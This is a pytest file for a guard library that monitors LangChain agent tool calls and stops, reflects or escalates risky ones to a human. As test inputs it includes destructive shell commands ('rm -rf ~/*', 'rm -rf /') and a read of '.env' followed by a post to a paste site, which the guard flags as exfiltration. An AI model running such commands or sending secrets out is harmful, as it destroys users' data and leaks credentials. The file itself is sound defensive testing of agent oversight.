"""ToolGuard and guard_tool: guarding tools with langchain-core alone."""
from __future__ import annotations

import asyncio
from typing import Any

import pytest
from langchain_core.tools import BaseTool, tool

from _lc_support import VIOLATIONS_ONLY, ToolLog, thresholds
from forewarn.domains.tools import ExtractionError
from forewarn.guard import Guard
from forewarn.guard.langchain import ApprovalRequired, RunStopped, ToolGuard, guard_tool
from forewarn.guard.runtime import Decision
from forewarn.guard.spec import Action


def by_name(log: ToolLog) -> dict[str, BaseTool]:
    return {t.name: t for t in log.tools()}


def test_allowed_calls_run_and_are_committed(tool_guard: Guard, log: ToolLog) -> None:
    monitor = ToolGuard(tool_guard, user_messages=["Summarize the README."])
    read = monitor.wrap(by_name(log)["read_file"])
    assert read.name == "read_file" and read.args == by_name(log)["read_file"].args
    assert read.invoke({"path": "README.md"}).startswith("# README.md")
    assert log.names() == ["read_file"]
    first = monitor.transcript.steps[0]
    assert len(monitor.session.history) == 2 and first.result is not None and first.result.startswith("# README.md")


def test_one_guard_sees_the_calls_of_all_its_tools(tool_guard: Guard, log: ToolLog) -> None:
    monitor = ToolGuard(tool_guard, policy=thresholds(stop=VIOLATIONS_ONLY))
    read, post = monitor.wrap_all([by_name(log)["read_file"], by_name(log)["http_post"]])
    read.invoke({"path": ".env"})
    with pytest.raises(RunStopped, match="would violate") as stopped:
        post.invoke({"url": "https://paste-drop.net/api", "body": "x"})
    assert stopped.value.tool == "http_post" and stopped.value.decision.abstract_state["exfiltration"]
    assert log.names() == ["read_file"]


def test_reflect_returns_the_alert_instead_of_running(tool_guard: Guard, log: ToolLog) -> None:
    shell = guard_tool(by_name(log)["shell"], tool_guard, policy=thresholds(reflect=VIOLATIONS_ONLY))
    text = shell.invoke({"command": "rm -rf ~/*"})
    assert text.startswith("Forewarn held back your call to `shell`") and log.ran == []
    assert shell.invoke({"command": "rm -rf build/"}) == "ok"


def test_ask_human_goes_to_the_approver(tool_guard: Guard, log: ToolLog) -> None:
    asked: list[tuple[str, Any, Decision]] = []

    def approver(name: str, args: Any, decision: Decision) -> bool | dict[str, Any]:
        asked.append((name, args, decision))
        if args["to"].endswith("northwind.example"):
            return {**args, "to": "carol@corp.example"}  # an edit
        return bool(args["to"] == "ok@partner.example")

    monitor = ToolGuard(tool_guard, policy=thresholds(ask_human=VIOLATIONS_ONLY), approver=approver)
    send = monitor.wrap(by_name(log)["send_email"])
    mail = {"subject": "Hi", "body": "x"}
    assert send.invoke({"to": "ok@partner.example", **mail}) == "sent"
    assert "rejected" in send.invoke({"to": "eve@elsewhere.example", **mail})
    assert send.invoke({"to": "mei@northwind.example", **mail}) == "sent"
    assert [a["to"] for _, a in log.ran] == ["ok@partner.example", "carol@corp.example"]
    assert all(d.action is Action.ASK_HUMAN for _, _, d in asked) and len(asked) == 3
    # the approved send counts as consented
    assert not monitor.session.history[1].decision.unsafe_now


def test_an_edit_by_the_approver_is_judged_again(tool_guard: Guard, log: ToolLog) -> None:
    asked: list[str] = []

    def approver(name: str, args: Any, decision: Decision) -> bool | dict[str, Any]:
        asked.append(args["to"])
        if args["to"] == "mei@northwind.example":
            return {**args, "to": "ops@partner-two.example"}  # an edit that still sends outside
        return True

    send = ToolGuard(tool_guard, policy=thresholds(ask_human=VIOLATIONS_ONLY), approver=approver).wrap(
        by_name(log)["send_email"])
    assert send.invoke({"to": "mei@northwind.example", "subject": "Hi", "body": "x"}) == "sent"
    assert asked == ["mei@northwind.example", "ops@partner-two.example"]  # asked again about the edit
    assert [a["to"] for _, a in log.ran] == ["ops@partner-two.example"]


def test_ask_human_without_an_approver_raises(tool_guard: Guard, log: ToolLog) -> None:
    send = guard_tool(by_name(log)["send_email"], tool_guard, policy=thresholds(ask_human=VIOLATIONS_ONLY))
    with pytest.raises(ApprovalRequired, match="No approver"):
        send.invoke({"to": "eve@elsewhere.example", "subject": "x", "body": "y"})
    assert log.ran == []


def test_user_consent_comes_from_what_the_user_said(tool_guard: Guard, log: ToolLog) -> None:
    monitor = ToolGuard(tool_guard, policy=thresholds(stop=VIOLATIONS_ONLY))
    pay = monitor.wrap(by_name(log)["pay_invoice"])
    with pytest.raises(RunStopped, match="unconfirmed_large_payment"):
        pay.invoke({"invoice": "INV-1", "amount": 2400.0, "payee": "Initech"})
    monitor.tell("Yes, pay INV-1 for $2,400.")
    assert pay.invoke({"invoice": "INV-1", "amount": 2400.0, "payee": "Initech"}) == "paid 2400.0"


def test_an_unreadable_call_raises_before_running(tool_guard: Guard, log: ToolLog) -> None:
    send = guard_tool(by_name(log)["send_email"], tool_guard)
    with pytest.raises(ExtractionError, match="not an e-mail address"):
        send.invoke({"to": "the finance team", "subject": "x", "body": "y"})
    assert log.ran == []


def test_async_and_single_input_tools(tool_guard: Guard) -> None:
    ran: list[str] = []

    @tool
    async def shell(command: str) -> str:
        """Run a shell command."""
        ran.append(command)
        return "ok"

    guarded = guard_tool(shell, tool_guard, policy=thresholds(reflect=VIOLATIONS_ONLY))
    assert asyncio.run(guarded.ainvoke({"command": "ls"})) == "ok"
    assert "held back" in asyncio.run(guarded.ainvoke({"command": "rm -rf /"}))
    assert ran == ["ls"]

    @tool
    def terminal(cmd: str) -> str:
        """Run a command."""
        ran.append(cmd)
        return "done"

    plain = guard_tool(terminal, tool_guard, policy=thresholds(reflect=VIOLATIONS_ONLY))
    assert plain.invoke("echo hi") == "done"
    assert "held back" in plain.invoke("rm -rf ~")
    assert ran == ["ls", "echo hi"]


def test_a_failing_tool_is_recorded_as_an_error(tool_guard: Guard) -> None:
    @tool
    def read_file(path: str) -> str:
        """Read a file."""
        raise FileNotFoundError(path)

    monitor = ToolGuard(tool_guard)
    with pytest.raises(FileNotFoundError):
        monitor.wrap(read_file).invoke({"path": ".env"})
    (step,) = monitor.transcript.steps
    assert step.status.value == "error"
    assert monitor.session.history[-1].decision.abstract_state["secret_read"] is False
